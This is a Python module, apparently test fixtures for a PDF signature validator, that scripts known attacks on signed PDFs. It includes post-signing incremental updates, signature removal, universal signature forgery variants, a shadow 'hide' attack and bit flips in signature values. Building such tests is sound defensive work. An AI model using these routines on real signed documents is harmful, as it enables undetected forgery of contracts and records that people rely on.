"""Attacks on signed PDFs, built by script: each takes the bytes of a file and gives others."""

import re
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pyhanko.pdf_utils import embed
from pyhanko.pdf_utils import generic as objects
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

generic: Any = objects  # its classes are untyped
Writer = Any


def pdf_name(name: str) -> Any:
    return generic.NameObject(name)


Attack = Callable[[bytes], bytes]


def byte_ranges(data: bytes) -> list[list[int]]:
    """Every /ByteRange, in the order of the file."""
    return [
        [int(number) for number in match.group(1).split()]
        for match in re.finditer(rb"/ByteRange \[([\d ]+)\]", data)
    ]


def flip(data: bytes, at: int) -> bytes:
    """One bit of the byte at ``at``."""
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


def page_bit(data: bytes) -> bytes:
    return flip(data, data.index(b"/MediaBox") + 1)


def cms_digit(number: int) -> Attack:
    """One hexadecimal digit of the value of signature ``number``, so that it still parses."""

    def attack(data: bytes) -> bytes:
        embedded = PdfFileReader(BytesIO(data)).embedded_signatures[number]
        value = embedded.signer_info["signature"].native.hex().encode().upper()
        at = data.upper().index(value) + 40
        digit = b"0" if data[at : at + 1] != b"0" else b"1"
        return data[:at] + digit + data[at + 1 :]

    return attack


def updated(data: bytes, change: Callable[[Writer], None]) -> bytes:
    """``data`` with an incremental update made by ``change``."""
    writer: Writer = IncrementalPdfFileWriter(BytesIO(data))
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: Writer) -> Any:
    return writer.root["/Pages"]["/Kids"][0]


def _note(writer: Writer, subtype: str) -> None:
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (72, 700, 300, 780))),
            pdf_name("/Contents"): generic.pdf_string("1.000.000.000"),
            pdf_name("/DA"): generic.pdf_string("/Helv 12 Tf 0 g"),
        }
    )
    page = _page(writer)
    page.setdefault(pdf_name("/Annots"), generic.ArrayObject()).append(writer.add_object(note))
    writer.update_container(page["/Annots"])
    writer.update_container(page)


def annotation(data: bytes) -> bytes:
    return updated(data, lambda writer: _note(writer, "/Text"))


def free_text(data: bytes) -> bytes:
    return updated(data, lambda writer: _note(writer, "/FreeText"))


def page_text(data: bytes) -> bytes:
    def change(writer: Writer) -> None:
        words = generic.StreamObject(stream_data=b"BT /F1 14 Tf 72 760 Td (SUA) Tj ET")
        page = _page(writer)
        page[pdf_name("/Contents")] = writer.add_object(words)
        writer.update_container(page)

    return updated(data, change)


def page_words_overwritten(data: bytes) -> bytes:
    """The content stream itself is written over: the page is the same object."""

    def change(writer: Writer) -> None:
        reference = _page(writer).raw_get("/Contents").reference
        words = generic.StreamObject(stream_data=b"BT /F1 14 Tf 72 760 Td (SUA) Tj ET")
        words.container_ref = reference
        writer.objects[(reference.generation, reference.idnum)] = words

    return updated(data, change)


def page_deleted(data: bytes) -> bytes:
    def change(writer: Writer) -> None:
        pages = writer.root["/Pages"]
        pages["/Kids"].pop()
        pages[pdf_name("/Count")] = generic.NumberObject(len(pages["/Kids"]))
        writer.update_container(pages["/Kids"])
        writer.update_container(pages)

    return updated(data, change)


def attached(data: bytes, inside: bytes) -> bytes:
    def change(writer: Writer) -> None:
        held = embed.EmbeddedFileObject.from_file_data(writer, inside, compress=False)
        embed.embed_file(writer, embed.FileSpec("phu-luc", embedded_data=held))

    return updated(data, change)


def attachment(data: bytes) -> bytes:
    return attached(data, b"MZ")


def _fields(writer: Writer) -> Any:
    return writer.root["/AcroForm"]["/Fields"]


def nodes(writer: Writer) -> list[Any]:
    """The form fields, each as a dictionary."""
    fields = _fields(writer)
    return [fields[index] for index in range(len(fields))]


def appearance(data: bytes) -> bytes:
    def change(writer: Writer) -> None:
        for field in nodes(writer):
            if "/AP" in field:
                picture = generic.StreamObject(stream_data=b"1 0 0 rg 0 0 100 100 re f")
                picture[pdf_name("/Type")] = pdf_name("/XObject")
                picture[pdf_name("/Subtype")] = pdf_name("/Form")
                box = generic.ArrayObject(map(generic.NumberObject, (0, 0, 100, 100)))
                picture[pdf_name("/BBox")] = box
                field["/AP"][pdf_name("/N")] = writer.add_object(picture)
                writer.update_container(field["/AP"])

    return updated(data, change)


def signature_removed(name: str) -> Attack:
    def change(writer: Writer) -> None:
        fields = _fields(writer)
        kept = [
            fields.raw_get(i) for i in range(len(fields)) if str(fields[i].get("/T", "")) != name
        ]
        assert len(kept) < len(fields)
        form = writer.root["/AcroForm"]
        form[pdf_name("/Fields")] = generic.ArrayObject(kept)
        writer.update_container(form)
        writer.update_root()

    return lambda data: updated(data, change)


def signature_emptied(name: str) -> Attack:
    def change(writer: Writer) -> None:
        for field in nodes(writer):
            if str(field.get("/T", "")) == name:
                del field["/V"]
                writer.update_container(field)

    return lambda data: updated(data, change)


def signature_dictionary(change: Callable[[Any], None], name: str = "Signature1") -> Attack:
    """The signature dictionary is written over (universal signature forgery)."""

    def attack(writer: Writer) -> None:
        for field in nodes(writer):
            if str(field.get("/T", "")) == name:
                change(field["/V"])
                writer.update_container(field["/V"])

    return lambda data: updated(data, attack)


def _without(key: str) -> Callable[[Any], None]:
    return lambda value: value.__delitem__(key)


def _with(key: str, thing: Any) -> Callable[[Any], None]:
    return lambda value: value.__setitem__(pdf_name(key), thing)


FORGERIES: dict[str, Attack] = {
    "no ByteRange": signature_dictionary(_without("/ByteRange")),
    "null ByteRange": signature_dictionary(_with("/ByteRange", generic.NullObject())),
    "empty ByteRange": signature_dictionary(_with("/ByteRange", generic.ArrayObject())),
    "negative ByteRange": signature_dictionary(
        _with("/ByteRange", generic.ArrayObject(map(generic.NumberObject, (0, -1, 5, 6))))
    ),
    "no Contents": signature_dictionary(_without("/Contents")),
    "null Contents": signature_dictionary(_with("/Contents", generic.NullObject())),
    "zero Contents": signature_dictionary(_with("/Contents", generic.ByteStringObject(b"\0" * 64))),
    "no SubFilter": signature_dictionary(_without("/SubFilter")),
}


def garbage(data: bytes) -> bytes:
    return data + b"<17 bytes of junk>"


def hidden_object(data: bytes) -> bytes:
    """An object that no cross-reference lists, inside a well-formed update."""
    grown = updated(data, lambda writer: writer.update_root())
    at = grown.rindex(b"\nxref\n") + 1
    inserted = b"99 0 obj\n<< /Type /Page >>\nendobj\n"
    moved = grown[:at] + inserted + grown[at:]
    return moved.replace(b"startxref\n%d\n" % at, b"startxref\n%d\n" % (at + len(inserted)))


def rewritten(data: bytes) -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(data)) as pdf:
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def rewritten_compressed(data: bytes) -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(data)) as pdf:
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def metadata_only(data: bytes) -> bytes:
    def change(writer: Writer) -> None:
        info = writer.trailer["/Info"]
        info[pdf_name("/Title")] = generic.pdf_string("Khác")
        writer.update_container(info)

    return updated(data, change)


def overlay_freed(data: bytes) -> bytes:
    """Shadow attack, *hide*: the object that covered other words is freed after signing."""
    offset = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = int(re.findall(rb"/Size (\d+)", data)[-1])
    number = next(
        int(match.group(1))
        for match in re.finditer(rb"(\d+) 0 obj\s*<<[^>]*/Overlay", data, re.DOTALL)
    )
    root = re.findall(rb"/Root (\d+ 0 R)", data)[-1]
    at = len(data)
    table = b"xref\n0 1\n0000000000 65535 f \n%d 1\n0000000000 00001 f \n" % number
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return data + table + trailer % (size, root, offset, at)


AFTER_SIGNING: dict[str, Attack] = {
    "text annotation": annotation,
    "free text": free_text,
    "page text": page_text,
    "page words overwritten": page_words_overwritten,
    "page deleted": page_deleted,
    "attachment": attachment,
    "seal appearance": appearance,
    "person's signature removed": signature_removed("Signature1"),
    "organisation's signature removed": signature_removed("Signature2"),
    "organisation's signature emptied": signature_emptied("Signature2"),
    "garbage appended": garbage,
    "unlisted object": hidden_object,
    "page bit": page_bit,
    "value of signature 1": cms_digit(0),
    "first document timestamp": cms_digit(1),
    "value of signature 2": cms_digit(2),
    "last document timestamp": cms_digit(3),
    "rewritten": rewritten,
    "rewritten with object streams": rewritten_compressed,
}
